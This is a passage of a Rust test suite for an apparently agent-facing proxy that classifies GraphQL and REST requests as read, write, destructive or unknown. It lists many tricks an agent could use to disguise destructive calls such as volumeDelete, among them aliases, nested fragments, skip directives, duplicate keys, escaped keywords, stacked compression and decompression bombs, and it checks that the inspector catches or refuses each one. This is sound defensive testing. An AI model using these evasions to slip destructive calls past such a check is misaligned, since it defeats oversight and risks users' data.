//! Adversarial requests, end to end through `Inspector::inspect`.
//!
//! Each case is a way an agent could try to make a destructive call look
//! harmless — or a way to make inspection itself fall over. Every case asserts
//! the exact operations found, or that the request is a single `unknown`
//! operation: the proxy forwards nothing it cannot fully read.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use scopegate_inspect::EndpointKind;
use scopegate_model::OpClass::{Destructive, Read, Unknown, Write};
use scopegate_model::PresentedCredential;
use serde_json::json;

const VOLUME_DELETE: &str = r#"mutation { volumeDelete(volumeId: "v") }"#;

// ---------------------------------------------------------------------------
// GraphQL documents: aliases, several root fields, several operations,
// fragments.

#[test]
fn an_alias_does_not_hide_the_field() {
    let i = railway_doc(r#"mutation { a: volumeDelete(volumeId:"v") }"#, None);
    assert_eq!(i.endpoint, EndpointKind::Graphql);
    assert_eq!(i.provider.as_deref(), Some("railway"));
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    assert_eq!(resources(&i), res(&[("volumeId", &["v"])]));

    // an alias that names a harmless field
    let i = railway_doc(
        r#"mutation { me: volumeDelete(volumeId:"v") projectCreate: serviceDelete(id:"s") }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[
            ("volumeDelete", Destructive),
            ("serviceDelete", Destructive)
        ])
    );
}

#[test]
fn every_root_field_counts() {
    let i = railway_doc(
        r#"mutation {
            customDomainCreate(input: {domain: "x.example", environmentId: "e", projectId: "p", serviceId: "s"}) { id }
            volumeDelete(volumeId: "v")
            serviceCreate(input: {projectId: "p"}) { id }
        }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[
            ("customDomainCreate", Write),
            ("volumeDelete", Destructive),
            ("serviceCreate", Write)
        ])
    );
    assert_eq!(
        i.operations[1].resources,
        [("volumeId".to_owned(), vec!["v".to_owned()])].into()
    );

    // the same field twice under two aliases is two operations
    let i = railway_doc(
        r#"mutation { a: volumeDelete(volumeId: "v1") b: volumeDelete(volumeId: "v2") }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[("volumeDelete", Destructive), ("volumeDelete", Destructive)])
    );
    assert_eq!(i.operations[0].resources["volumeId"], ["v1"]);
    assert_eq!(i.operations[1].resources["volumeId"], ["v2"]);
}

#[test]
fn operation_name_does_not_narrow_what_is_counted() {
    let doc = r#"query Harmless { me { id } } mutation Evil { volumeDelete(volumeId: "v") }"#;
    for name in ["Harmless", "Evil"] {
        let body = json!({ "query": doc, "operationName": name }).to_string();
        let i = railway_json(&body);
        assert_eq!(
            ops(&i),
            want(&[("me", Read), ("volumeDelete", Destructive)]),
            "operationName {name}"
        );
    }
    // an operationName naming no operation in the document changes nothing either
    let body = json!({ "query": doc, "operationName": "Nope" }).to_string();
    assert_eq!(
        ops(&railway_json(&body)),
        want(&[("me", Read), ("volumeDelete", Destructive)])
    );
    // an anonymous operation next to a named one
    let i = railway_doc(
        r#"{ me { id } } mutation M { volumeDelete(volumeId: "v") }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[("me", Read), ("volumeDelete", Destructive)])
    );
}

#[test]
fn fragments_on_mutation_are_expanded_at_any_depth() {
    let cases: &[&str] = &[
        // a named fragment
        r#"mutation { ...A } fragment A on Mutation { volumeDelete(volumeId: "v") }"#,
        // fragments spreading fragments, defined before their use
        r#"fragment C on Mutation { x: volumeDelete(volumeId: "v") }
           fragment B on Mutation { ...C }
           fragment A on Mutation { ...B }
           mutation { ...A }"#,
        // inline fragments, with and without a type condition, nested
        r#"mutation { ... { ... on Mutation { ... { volumeDelete(volumeId: "v") } } } }"#,
        // a directive that would skip it is not trusted
        r#"mutation { ... @skip(if: true) { volumeDelete(volumeId: "v") } }"#,
        r#"mutation { volumeDelete(volumeId: "v") @include(if: false) }"#,
        // a named fragment inside an inline fragment inside a named fragment
        r#"mutation M { ... on Mutation { ...Outer } }
           fragment Outer on Mutation { ... @include(if: true) { ...Inner } }
           fragment Inner on Mutation { ... on Mutation { alias: volumeDelete(volumeId: "v") } }"#,
        // a fragment whose type condition names another type
        r#"mutation { ...Q } fragment Q on Query { volumeDelete(volumeId: "v") }"#,
    ];
    for doc in cases {
        let i = railway_doc(doc, None);
        assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]), "{doc}");
        assert_eq!(resources(&i), res(&[("volumeId", &["v"])]), "{doc}");
    }

    // several fields spread from one fragment, next to a plain field
    let i = railway_doc(
        r#"mutation { me: projectDelete(id: "p") ...F }
           fragment F on Mutation { ... { volumeDelete(volumeId: "v") } environmentDelete(id: "e") }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[
            ("projectDelete", Destructive),
            ("volumeDelete", Destructive),
            ("environmentDelete", Destructive)
        ])
    );

    // one fragment spread by two operations counts in each
    let i = railway_doc(
        r#"mutation A { ...F } mutation B { ...F } fragment F on Mutation { volumeDelete(volumeId: "v") }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[("volumeDelete", Destructive), ("volumeDelete", Destructive)])
    );
}

#[test]
fn fragments_that_a_server_would_refuse_or_read_differently_are_unknown() {
    for doc in [
        // a cycle
        "mutation { ...A } fragment A on Mutation { ...B } fragment B on Mutation { ...A }",
        // spread of an undefined fragment
        "mutation { ...Missing }",
        // a fragment defined twice: which one runs?
        r#"mutation { ...A } fragment A on Mutation { me } fragment A on Mutation { volumeDelete(volumeId: "v") }"#,
        // an operation defined twice
        r#"mutation A { me } mutation A { volumeDelete(volumeId: "v") }"#,
        // an argument given twice
        r#"mutation { volumeDelete(volumeId: "harmless", volumeId: "prod") }"#,
        // a variable declared twice
        r#"mutation ($v: String, $v: String) { volumeDelete(volumeId: $v) }"#,
        // fragments only
        r#"fragment A on Mutation { volumeDelete(volumeId: "v") }"#,
        // does not parse
        r#"mutation { volumeDelete(volumeId: ) }"#,
        "",
        "   # only a comment",
        // type system definitions are not an executable document
        r#"type Mutation { x: Int } mutation { volumeDelete(volumeId: "v") }"#,
    ] {
        assert_unknown(&railway_doc(doc, None), "unreadable-graphql");
    }
}

#[test]
fn fields_the_catalogue_does_not_know_are_unknown_next_to_the_known_ones() {
    let i = railway_doc(
        r#"mutation { volumeDelete(volumeId: "v") notARealField }"#,
        None,
    );
    assert_eq!(
        ops(&i),
        want(&[("volumeDelete", Destructive), ("notARealField", Unknown)])
    );
    // a mutation field sent as a query is not the catalogued query field
    let i = railway_doc(r#"query { volumeDelete(volumeId: "v") }"#, None);
    assert_eq!(ops(&i), want(&[("volumeDelete", Unknown)]));
    let i = railway_doc(r#"subscription { volumeDelete(volumeId: "v") }"#, None);
    assert_eq!(ops(&i), want(&[("volumeDelete", Unknown)]));
    // introspection at the root is a read
    let i = railway_doc("mutation { __typename }", None);
    assert_eq!(ops(&i), want(&[("__typename", Read)]));
}

#[test]
fn separators_comments_and_string_forms_do_not_hide_fields() {
    let i = railway_doc(
        "mutation#{ me }\n,,{,\tvolumeDelete # ( harmless\r\n(volumeId:\"\"\"v\"\"\")}",
        None,
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    assert_eq!(resources(&i), res(&[("volumeId", &["v"])]));
    // GraphQL string escapes are decoded the way the server decodes them
    let i = railway_doc(
        r#"mutation { volumeDelete(volumeId: "v\u006fl-1\n") }"#,
        None,
    );
    assert_eq!(resources(&i), res(&[("volumeId", &["vol-1\n"])]));
}

// ---------------------------------------------------------------------------
// Transport: batches, URL parameters, JSON subtleties.

#[test]
fn batches_count_every_request() {
    let body = json!([
        { "query": "{ me { id } }" },
        { "query": "mutation ($id: String!) { volumeDelete(volumeId: $id) }", "variables": { "id": "vol-1" } },
        { "query": "query P($id: String!) { project(id: $id) { id } }", "variables": { "id": "p" }, "operationName": "P" },
        { "query": "mutation ($id: String!) { volumeDelete(volumeId: $id) }", "variables": { "id": "vol-2" } },
    ])
    .to_string();
    let i = railway_json(&body);
    assert_eq!(
        ops(&i),
        want(&[
            ("me", Read),
            ("volumeDelete", Destructive),
            ("project", Read),
            ("volumeDelete", Destructive)
        ])
    );
    // each request's variables are its own, although the documents are the same
    assert_eq!(i.operations[1].resources["volumeId"], ["vol-1"]);
    assert_eq!(i.operations[2].resources["projectId"], ["p"]);
    assert_eq!(i.operations[3].resources["volumeId"], ["vol-2"]);

    // one unreadable element makes the whole batch unknown
    let body = json!([{ "query": VOLUME_DELETE }, { "query": "{ me " }]).to_string();
    assert_unknown(&railway_json(&body), "unreadable-graphql");
    let body = json!([{ "query": VOLUME_DELETE }, "{ me }"]).to_string();
    assert_unknown(&railway_json(&body), "unreadable-graphql");
    let body = json!([{ "query": VOLUME_DELETE }, [{ "query": "{ me }" }]]).to_string();
    assert_unknown(&railway_json(&body), "unreadable-graphql");
    assert_unknown(&railway_json("[]"), "unreadable-graphql");
    // a batch over the limit (32) is refused, not truncated
    let big: Vec<_> = (0..33).map(|_| json!({ "query": VOLUME_DELETE })).collect();
    assert_unknown(
        &railway_json(&serde_json::Value::Array(big).to_string()),
        "unreadable-graphql",
    );
    let max: Vec<_> = (0..32).map(|_| json!({ "query": VOLUME_DELETE })).collect();
    let i = railway_json(&serde_json::Value::Array(max).to_string());
    assert_eq!(ops(&i), vec![("volumeDelete".to_owned(), Destructive); 32]);
}

#[test]
fn graphql_in_the_url() {
    let mutation = format!("{GQL}?query={}", pct(VOLUME_DELETE));
    // a mutation in the URL next to a harmless body: which one runs?
    let i = inspect(
        "POST",
        RAILWAY,
        &mutation,
        &[JSON],
        br#"{"query":"{ me { id } }"}"#,
    );
    assert_unknown(&i, "unreadable-graphql");
    // the same with only variables or an operation name in the URL
    for q in [
        "variables=%7B%7D",
        "operationName=Evil",
        "extensions=%7B%7D",
    ] {
        let i = inspect(
            "POST",
            RAILWAY,
            &format!("{GQL}?{q}"),
            &[JSON],
            br#"{"query":"{ me { id } }"}"#,
        );
        assert_unknown(&i, "unreadable-graphql");
    }
    // a GET carrying a mutation is read as the mutation
    let i = inspect("GET", RAILWAY, &mutation, &[], b"");
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    assert_eq!(resources(&i), res(&[("volumeId", &["v"])]));
    // a HEAD too
    let i = inspect("HEAD", RAILWAY, &mutation, &[], b"");
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // with variables in the URL
    let target = format!(
        "{GQL}?query={}&variables={}",
        pct("mutation ($id: String!) { volumeDelete(volumeId: $id) }"),
        pct(r#"{"id":"vol-9"}"#)
    );
    let i = inspect("GET", RAILWAY, &target, &[], b"");
    assert_eq!(resources(&i), res(&[("volumeId", &["vol-9"])]));
    // `+` is a space in a query string
    let i = inspect(
        "GET",
        RAILWAY,
        &format!("{GQL}?query=mutation+%7B+volumeDelete(volumeId:%22v%22)+%7D"),
        &[],
        b"",
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // a POST with the document only in the URL and no body
    let i = inspect("POST", RAILWAY, &mutation, &[], b"");
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // the query parameter twice
    let target = format!(
        "{GQL}?query={}&query={}",
        pct("{ me { id } }"),
        pct(VOLUME_DELETE)
    );
    assert_unknown(
        &inspect("GET", RAILWAY, &target, &[], b""),
        "unreadable-graphql",
    );
    // a GET with a body
    let i = inspect(
        "GET",
        RAILWAY,
        &mutation,
        &[JSON],
        br#"{"query":"{ me { id } }"}"#,
    );
    assert_unknown(&i, "unreadable-graphql");
    // a query string that does not decode, and a fragment in the target
    assert_unknown(
        &inspect("GET", RAILWAY, &format!("{mutation}&x=%zz"), &[], b""),
        "unreadable-query",
    );
    assert_unknown(
        &inspect("GET", RAILWAY, &format!("{mutation}&x=%ff"), &[], b""),
        "unreadable-query",
    );
    assert_unknown(
        &inspect("GET", RAILWAY, &format!("{mutation}#frag"), &[], b""),
        "unreadable-target",
    );
    // other methods on the GraphQL endpoint
    for m in ["PUT", "PATCH", "DELETE", "OPTIONS"] {
        assert_unknown(
            &inspect(m, RAILWAY, GQL, &[JSON], br#"{"query":"{ me { id } }"}"#),
            "unreadable-graphql",
        );
    }
}

#[test]
fn json_escapes_are_decoded_like_the_server_does() {
    // an escaped field name
    let i = railway_json(r#"{"query":"mutation { \u0076olumeDelete(volumeId: \"v\") }"}"#);
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // an escaped key
    let i = railway_json(r#"{"\u0071uery":"mutation { volumeDelete(volumeId: \"v\") }"}"#);
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // an escaped `mutation` keyword and escaped braces
    let i =
        railway_json(r#"{"query":"\u006dutation \u007b volumeDelete(volumeId: \"v\") \u007d"}"#);
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // a surrogate pair is fine in a string value; a lone surrogate is not JSON
    let i = railway_json(r#"{"query":"mutation { volumeDelete(volumeId: \"\ud83d\ude00\") }"}"#);
    assert_eq!(resources(&i), res(&[("volumeId", &["\u{1F600}"])]));
    assert_unknown(
        &railway_json(r#"{"query":"mutation { volumeDelete(volumeId: \"\ud800\") }"}"#),
        "unreadable-graphql",
    );
}

#[test]
fn duplicate_json_keys_are_unknown() {
    for body in [
        r#"{"query":"{me}","query":"mutation{volumeDelete(volumeId:\"v\")}"}"#,
        r#"{"query":"mutation{volumeDelete(volumeId:\"v\")}","query":"{me}"}"#,
        r#"{"query":"{me}","\u0071uery":"mutation{volumeDelete(volumeId:\"v\")}"}"#,
        r#"{"query":"mutation($id:String){volumeDelete(volumeId:$id)}","variables":{"id":"a","id":"b"}}"#,
        r#"{"query":"{me}","operationName":"a","operationName":"b"}"#,
        r#"[{"query":"{me}"},{"query":"{me}","query":"mutation{volumeDelete(volumeId:\"v\")}"}]"#,
    ] {
        assert_unknown(&railway_json(body), "unreadable-graphql");
    }
}

#[test]
fn irregular_json_is_unknown() {
    for body in [
        // trailing data, a second document
        r#"{"query":"{me}"} {"query":"mutation{volumeDelete(volumeId:\"v\")}"}"#,
        r#"{"query":"{me}"}x"#,
        // comments and trailing commas
        r#"{"query":"{me}", /* c */ "variables":{}}"#,
        r#"{"query":"{me}",}"#,
        // a BOM
        "\u{feff}{\"query\":\"{me}\"}",
        // keys a server might read as something else
        r#"{"query":"{me}","id":"stored-document"}"#,
        r#"{"query":"{me}","documentId":"d"}"#,
        r#"{"query":"{me}","Query":"mutation{volumeDelete(volumeId:\"v\")}"}"#,
        // wrong types
        r#"{"query":["mutation{volumeDelete(volumeId:\"v\")}"]}"#,
        r#"{"query":"{me}","variables":"{\"id\":1}"}"#,
        r#"{"query":"{me}","operationName":1}"#,
        r#"{"query":"{me}","extensions":[]}"#,
        r#""mutation{volumeDelete(volumeId:\"v\")}""#,
        "null",
        "",
        "{",
    ] {
        assert_unknown(&railway_json(body), "unreadable-graphql");
    }
}

#[test]
fn persisted_queries_without_their_document_are_unknown() {
    let hash = "ecf4edb46db40b5132295c0291d62fb65d6759a9eedfa4d5d612dd5ec54a6b38";
    for body in [
        json!({ "extensions": { "persistedQuery": { "version": 1, "sha256Hash": hash } } }),
        json!({ "query": null, "extensions": { "persistedQuery": { "version": 1, "sha256Hash": hash } } }),
        // a hash that is not the hash of the document sent with it
        json!({ "query": "{ me { id } }", "extensions": { "persistedQuery": { "version": 1, "sha256Hash": hash } } }),
        json!({ "query": "{ me { id } }", "extensions": { "persistedQuery": { "version": 1 } } }),
        // other ways to name a stored document
        json!({ "query": "{ me { id } }", "extensions": { "documentId": "d" } }),
        json!({ "query": "{ me { id } }", "extensions": { "queryHash": "d" } }),
        json!({ "query": "{ me { id } }", "extensions": { "PersistedQuery": {} } }),
        json!({ "operationName": "VolumeDelete" }),
    ] {
        assert_unknown(&railway_json(&body.to_string()), "unreadable-graphql");
    }
    // a persisted-query hash that matches the document is fine
    let doc = r#"mutation { volumeDelete(volumeId: "v") }"#;
    let hex: String = {
        use sha2::Digest;
        sha2::Sha256::digest(doc.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    let body = json!({ "query": doc, "extensions": { "persistedQuery": { "version": 1, "sha256Hash": hex } } });
    assert_eq!(
        ops(&railway_json(&body.to_string())),
        want(&[("volumeDelete", Destructive)])
    );
}

// ---------------------------------------------------------------------------
// Content types, charsets, encodings.

#[test]
fn content_types_other_than_the_graphql_transports_are_unknown() {
    let body = br#"{"query":"mutation { volumeDelete(volumeId: \"v\") }"}"#;
    for ct in [
        &b"text/plain"[..],
        b"application/x-json",
        b"application/json+graphql",
        b"application/octet-stream",
        b"application/json; charset=utf-16",
        b"application/json; charset=\"UTF-16LE\"",
        b"application/json; charset=latin1",
        b"application/json; charset",
        b"json",
        b"",
        b"application/json\xff",
    ] {
        let i = inspect("POST", RAILWAY, GQL, &[("content-type", ct)], body);
        assert_unknown(
            &i,
            if ct.ends_with(b"\xff") {
                "unreadable-body"
            } else {
                "unreadable-graphql"
            },
        );
    }
    // no content type at all
    assert_unknown(
        &inspect("POST", RAILWAY, GQL, &[], body),
        "unreadable-graphql",
    );
    // two content types
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[
            ("content-type", b"application/json"),
            ("Content-Type", b"application/graphql"),
        ],
        body,
    );
    assert_unknown(&i, "unreadable-body");
    // the accepted spellings all read the mutation
    for ct in [
        &b"application/json"[..],
        b"Application/JSON",
        b"application/json; charset=utf-8",
        b"application/json;charset=\"UTF-8\"",
        b"application/json; charset=us-ascii",
        b"application/graphql+json",
    ] {
        let i = inspect("POST", RAILWAY, GQL, &[("content-type", ct)], body);
        assert_eq!(
            ops(&i),
            want(&[("volumeDelete", Destructive)]),
            "{}",
            String::from_utf8_lossy(ct)
        );
    }
}

#[test]
fn other_graphql_transports_are_read() {
    // application/graphql: the body is the document
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"application/graphql")],
        VOLUME_DELETE.as_bytes(),
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // a form
    let form = format!("query={}", pct(VOLUME_DELETE));
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"application/x-www-form-urlencoded")],
        form.as_bytes(),
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // a multipart upload whose operations are a batch
    let ops_json = json!([{ "query": "{ me { id } }" }, { "query": VOLUME_DELETE }]).to_string();
    let mp = format!(
        "--B\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{ops_json}\r\n--B\r\nContent-Disposition: form-data; name=\"map\"\r\n\r\n{{}}\r\n--B--\r\n"
    );
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"multipart/form-data; boundary=B")],
        mp.as_bytes(),
    );
    assert_eq!(
        ops(&i),
        want(&[("me", Read), ("volumeDelete", Destructive)])
    );
    // a multipart body with a second `operations` part or a stray field is unknown
    let twice = format!(
        "--B\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{{\"query\":\"{{ me {{ id }} }}\"}}\r\n--B\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{ops_json}\r\n--B--\r\n"
    );
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"multipart/form-data; boundary=B")],
        twice.as_bytes(),
    );
    assert_unknown(&i, "unreadable-graphql");
    let stray = format!(
        "--B\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{{\"query\":\"{{ me {{ id }} }}\"}}\r\n--B\r\nContent-Disposition: form-data; name=\"query\"\r\n\r\n{VOLUME_DELETE}\r\n--B--\r\n"
    );
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"multipart/form-data; boundary=B")],
        stray.as_bytes(),
    );
    assert_unknown(&i, "unreadable-graphql");
}

#[test]
fn invalid_utf8_bodies_are_unknown() {
    let mut body = br#"{"query":"mutation { volumeDelete(volumeId: \"v"#.to_vec();
    body.extend_from_slice(b"\xff\xfe\")}\"}");
    assert_unknown(
        &inspect("POST", RAILWAY, GQL, &[JSON], &body),
        "unreadable-graphql",
    );
    let mut doc = VOLUME_DELETE.as_bytes().to_vec();
    doc.extend_from_slice(b" # \xc0\xaf");
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"application/graphql")],
        &doc,
    );
    assert_unknown(&i, "unreadable-graphql");
    // an overlong encoding of `"` must not end a string early
    let body = b"{\"query\":\"{ me }\xc0\xa2, \"x\": 1}";
    assert_unknown(
        &inspect("POST", RAILWAY, GQL, &[JSON], body),
        "unreadable-graphql",
    );
    // UTF-16 with a BOM
    let utf16: Vec<u8> = "\u{feff}{\"query\":\"{ me }\"}"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_unknown(
        &inspect("POST", RAILWAY, GQL, &[JSON], &utf16),
        "unreadable-graphql",
    );
}

#[test]
fn compressed_bodies_are_decoded_before_reading() {
    let body = json!([{ "query": "{ me { id } }" }, { "query": VOLUME_DELETE }]).to_string();
    let plain = body.as_bytes();
    let expected = want(&[("me", Read), ("volumeDelete", Destructive)]);
    let cases: Vec<(&[u8], Vec<u8>)> = vec![
        (b"gzip", gzip(plain)),
        (b"x-gzip", gzip(plain)),
        (b"GZIP", gzip(plain)),
        (b"deflate", deflate(plain)),
        (b"br", brotli_stored(plain)),
        // stacked: the last applied is listed last and undone first
        (b"gzip, deflate", deflate(&gzip(plain))),
        (b"br, gzip", gzip(&brotli_stored(plain))),
        (b"identity, gzip", gzip(plain)),
        (b"identity", plain.to_vec()),
    ];
    for (enc, data) in &cases {
        let i = inspect(
            "POST",
            RAILWAY,
            GQL,
            &[JSON, ("Content-Encoding", enc)],
            data,
        );
        assert_eq!(ops(&i), expected, "{}", String::from_utf8_lossy(enc));
    }
    // two headers are two layers, in order
    let data = deflate(&gzip(plain));
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[
            JSON,
            ("content-encoding", b"gzip"),
            ("content-encoding", b"deflate"),
        ],
        &data,
    );
    assert_eq!(ops(&i), expected);
    // the same layers declared in the wrong order do not decode
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"deflate, gzip")],
        &data,
    );
    assert_unknown(&i, "unreadable-body");
    // a compressed body on a REST route is decoded too (a form could hide `_method`)
    let i = inspect(
        "DELETE",
        GITHUB,
        "/repos/o/r",
        &[("content-encoding", b"gzip")],
        &gzip(b"{}"),
    );
    assert_eq!(ops(&i), want(&[("repos/delete", Destructive)]));
}

#[test]
fn unreadable_encodings_are_unknown() {
    let plain = VOLUME_DELETE.as_bytes();
    let gz = gzip(plain);
    let cases: Vec<(&[u8], Vec<u8>)> = vec![
        // a corrupt or truncated body
        (b"br", b"\xff\xff\xff\xff not brotli".to_vec()),
        (b"br", plain.to_vec()),
        (b"gzip", plain.to_vec()),
        (b"gzip", gz[..gz.len() / 2].to_vec()),
        (b"deflate", gz.clone()),
        (b"br", {
            let br = brotli_stored(plain);
            br[..br.len() - 1].to_vec()
        }),
        // encodings scopegate does not decode
        (b"zstd", plain.to_vec()),
        (b"compress", plain.to_vec()),
        (b"gzip;q=1", gz.clone()),
        (b"\xffgzip", gz.clone()),
        // more than two layers
        (b"gzip, gzip, gzip", gzip(&gzip(&gz))),
        (b"identity, gzip, identity, gzip, gzip", gzip(&gzip(&gz))),
    ];
    for (enc, data) in &cases {
        let i = inspect(
            "POST",
            RAILWAY,
            GQL,
            &[
                ("content-type", b"application/graphql"),
                ("content-encoding", enc),
            ],
            data,
        );
        assert_unknown(&i, "unreadable-body");
    }
    // the same refusals hold on REST routes
    let i = inspect(
        "DELETE",
        GITHUB,
        "/repos/o/r",
        &[("content-encoding", b"zstd")],
        b"{}",
    );
    assert_unknown(&i, "unreadable-body");
}

#[test]
fn decompression_bombs_are_refused_not_expanded() {
    // 16 MiB of JSON-ish padding: far over the 4 MiB decoded-body limit
    let mut huge = b"{\"query\":\"{ me }\",\"variables\":{\"pad\":\"".to_vec();
    huge.resize(16 << 20, b'a');
    let bomb = gzip(&huge);
    assert!(bomb.len() < (1 << 20), "the bomb is {} bytes", bomb.len());
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"gzip")],
        &bomb,
    );
    assert_unknown(&i, "unreadable-body");
    // the same bomb, nested: small in, enormous out
    let nested = gzip(&bomb);
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"gzip, gzip")],
        &nested,
    );
    assert_unknown(&i, "unreadable-body");
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"deflate")],
        &deflate(&huge),
    );
    assert_unknown(&i, "unreadable-body");
    // just over the limit is refused; just under is read
    let limit = INSPECTOR.limits().max_decoded_body;
    let mut over =
        br#"{"query":"mutation { volumeDelete(volumeId: \"v\") }","variables":{"pad":""#.to_vec();
    over.resize(limit - 2, b'a');
    over.extend_from_slice(b"\"}}");
    assert_eq!(over.len(), limit + 1);
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"gzip")],
        &gzip(&over),
    );
    assert_unknown(&i, "unreadable-body");
    let under = [&over[..limit - 4], b"\"}}"].concat();
    assert_eq!(under.len(), limit - 1);
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"gzip")],
        &gzip(&under),
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // a brotli stream that decodes to more than the limit
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"br")],
        &brotli_stored(&over),
    );
    assert_unknown(&i, "unreadable-body");
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[JSON, ("content-encoding", b"br")],
        &brotli_stored(&under),
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    // an uncompressed body over the limit is refused as well
    let i = inspect("POST", RAILWAY, GQL, &[JSON], &over);
    assert_unknown(&i, "unreadable-body");
}

// ---------------------------------------------------------------------------
// Size and depth: nothing may exhaust the stack or run unbounded.

#[test]
fn deep_nesting_is_unknown_not_a_stack_overflow() {
    const N: usize = 100_000;
    // 100k `{` in a GraphQL document, as application/graphql and inside JSON
    let braces = format!("mutation {}volumeDelete{}", "{".repeat(N), "}".repeat(N));
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"application/graphql")],
        braces.as_bytes(),
    );
    assert_unknown(&i, "unreadable-graphql");
    assert_unknown(&railway_doc(&braces, None), "unreadable-graphql");
    // unbalanced: only openings
    assert_unknown(&railway_doc(&"{".repeat(N), None), "unreadable-graphql");
    // nested list and object values in arguments
    let lists = format!(
        "mutation {{ volumeDelete(volumeId: {}\"v\"{}) }}",
        "[".repeat(N),
        "]".repeat(N)
    );
    assert_unknown(&railway_doc(&lists, None), "unreadable-graphql");
    let objects = format!(
        "mutation {{ volumeDelete(volumeId: {}1{}) }}",
        "{a:".repeat(N),
        "}".repeat(N)
    );
    assert_unknown(&railway_doc(&objects, None), "unreadable-graphql");
    // 100k `[` of JSON, as the body and as the variables
    let arrays = format!("{}{}", "[".repeat(N), "]".repeat(N));
    assert_unknown(&railway_json(&arrays), "unreadable-graphql");
    let body = format!(r#"{{"query":"{{ me {{ id }} }}","variables":{{"a":{arrays}}}}}"#);
    assert_unknown(&railway_json(&body), "unreadable-graphql");
    let objs = format!(
        r#"{{"query":"{{ me {{ id }} }}","variables":{}1{}}}"#,
        r#"{"a":"#.repeat(N),
        "}".repeat(N)
    );
    assert_unknown(&railway_json(&objs), "unreadable-graphql");
    // the same in a URL parameter
    let target = format!(
        "{GQL}?query={}&variables={}",
        pct("{ me { id } }"),
        "%5B".repeat(N)
    );
    assert_unknown(
        &inspect("GET", RAILWAY, &target, &[], b""),
        "unreadable-graphql",
    );
    // a long path is not a problem either
    let path = "/a".repeat(N);
    assert_unknown(&inspect("DELETE", GITHUB, &path, &[], b""), "unknown-route");
    let path = format!("/repos/o/r{}", "/x/..".repeat(N));
    assert_eq!(
        ops(&inspect("DELETE", GITHUB, &path, &[], b"")),
        want(&[("repos/delete", Destructive)])
    );
}

#[test]
fn nesting_just_inside_the_limits_is_read() {
    // 30 levels of inline fragments, then the field
    let doc = format!(
        "mutation {{ {}volumeDelete(volumeId: \"v\"){} }}",
        "... { ".repeat(30),
        " }".repeat(30)
    );
    let i = railway_doc(&doc, None);
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]), "{doc}");
    // variables nested 120 levels deep (serde_json stops at 128) with a deletion at the bottom
    let patch = format!(
        "{}{{\"isDeleted\":true}}{}",
        r#"{"s":"#.repeat(120),
        "}".repeat(120)
    );
    let body = format!(
        r#"{{"query":"mutation ($p: EnvironmentConfig!) {{ environmentPatchCommit(environmentId: \"e\", patch: $p) }}","variables":{{"p":{patch}}}}}"#
    );
    let i = railway_json(&body);
    assert_eq!(ops(&i), want(&[("environmentPatchCommit", Destructive)]));
}

#[test]
fn oversized_documents_are_unknown() {
    // a 3 MiB document: under the body limit, over the document limit
    let doc = format!(
        "mutation {{ volumeDelete(volumeId: \"v\") {} }}",
        "a ".repeat(3 << 19)
    );
    assert_unknown(&railway_doc(&doc, None), "unreadable-graphql");
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[("content-type", b"application/graphql")],
        doc.as_bytes(),
    );
    assert_unknown(&i, "unreadable-graphql");
    // a document with more tokens than the limit (50k) but under the size limit
    let doc = format!(
        "mutation {{ volumeDelete(volumeId: \"v\") {} }}",
        "a ".repeat(60_000)
    );
    assert!(doc.len() < INSPECTOR.limits().max_document_bytes);
    assert_unknown(&railway_doc(&doc, None), "unreadable-graphql");
    // a long string is one token; a long comment is none: both are read
    let doc = format!(
        "mutation {{ volumeDelete(volumeId: \"{}\") }} # {}",
